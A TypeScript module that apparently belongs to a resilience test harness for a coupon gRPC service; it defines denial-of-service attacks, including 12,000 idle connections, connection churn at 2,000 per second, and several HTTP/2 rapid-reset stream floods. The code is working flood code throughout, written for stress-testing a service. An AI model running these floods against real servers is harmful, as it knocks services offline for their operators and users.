import type { Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import type { Attack } from "./attacks.ts"
import * as Frames from "./Frames.ts"
import type { Wire } from "./Wire.ts"

const SERVICE = "/coupon.v1.CouponService"
const JSON_TYPE = { "content-type": "application/json" }

/** More than the instance may have; those that were closed are opened again at once. */
const IDLE = 12_000

/** Connections that say a few bytes and no more. */
const idle = async (wire: Wire, hello: Buffer | undefined) => {
  const sockets: Array<Socket> = []
  while (!wire.over()) {
    for (let at = 0; at < IDLE && !wire.over(); at++) {
      if (sockets[at] !== undefined && !sockets[at]!.destroyed) continue
      const socket = sockets[at] = wire.connect()
      // Read, so that the end of the connection is noticed.
      socket.resume()
      if (hello !== undefined) socket.once("connect", () => socket.write(hello))
      if (at % 32 === 31) await pause(1)
    }
    await pause(250)
  }
}

/** Streams that one connection opens before the next one is made. */
const STREAMS = 20_000
const BURST = 200

/** Connections that open streams as fast as they are read, and come again when they are closed. */
const streaming = (wire: Wire, one: (stream: number) => Buffer, streams = STREAMS) =>
  Promise.all(Array.from({ length: 16 }, async () => {
    while (!wire.over()) {
      const socket = wire.connect()
      socket.resume()
      socket.write(Frames.hello())
      let n = 0
      await wire.pour(socket, () => {
        if (n >= streams) return undefined
        const burst = Array.from({ length: Math.min(BURST, streams) }, () => one(2 * n++ + 1))
        return Buffer.concat(burst)
      })
      if (n >= streams) socket.destroy()
      await pause(5)
    }
  })).then(() => {})

const claim = (stream: number) =>
  Buffer.concat([
    Frames.headers(stream, `${SERVICE}/IssueCoupon`, JSON_TYPE),
    Frames.data(stream, "{\"campaignId\":2000000000,\"userId\":1}")
  ])

/** Against the number of connections, and against streams that are given up. */
export const connectionAttacks: ReadonlyArray<Attack> = [
  {
    name: "idle-http2",
    what: "12,000 connections over HTTP/2 without a request, where 10,000 are allowed",
    run: (wire) => idle(wire, Frames.hello())
  },
  {
    name: "idle-http1",
    what: "the same over HTTP/1.1, each after one GET /livez",
    run: (wire) => idle(wire, Buffer.from("GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"))
  },
  { name: "idle-silent", what: "the same without a byte", run: (wire) => idle(wire, undefined) },
  {
    name: "connection-churn",
    what: "2,000 connections a second that are closed after one GET /livez",
    run: (wire) =>
      wire.every(2_000, () => {
        const socket = wire.connect()
        socket.resume()
        socket.once("data", () => socket.destroy())
        socket.write("GET /livez HTTP/1.1\r\nHost: x\r\n\r\n")
      })
  },
  {
    name: "reset",
    what: "rapid reset: 16 connections open streams and reset each at once, and come again",
    run: (wire) =>
      streaming(wire, (stream) =>
        Buffer.concat([Frames.headers(stream, `${SERVICE}/IssueCoupon`, JSON_TYPE), Frames.reset(stream)]))
  },
  {
    name: "reset-claims",
    what: "the same after the whole of a claim",
    run: (wire) => streaming(wire, (stream) => Buffer.concat([claim(stream), Frames.reset(stream)]))
  },
  {
    name: "reset-pages",
    what: "the same after the whole of a GetCampaign",
    run: (wire) =>
      streaming(wire, (stream) =>
        Buffer.concat([
          Frames.headers(stream, `${SERVICE}/GetCampaign`, JSON_TYPE),
          Frames.data(stream, `{"campaignId":${wire.target.campaignId}}`),
          Frames.reset(stream)
        ]))
  },
  {
    name: "reset-by-server",
    what: "the same, with an error in each stream that makes the server reset it",
    run: (wire) =>
      streaming(wire, (stream) =>
        Buffer.concat([Frames.headers(stream, `${SERVICE}/IssueCoupon`, JSON_TYPE), Frames.badWindow(stream)]))
  },
  {
    name: "reset-by-close",
    what: "16 connections that each open 200 streams with claims, close, and come again",
    run: (wire) => streaming(wire, claim, 200)
  }
]
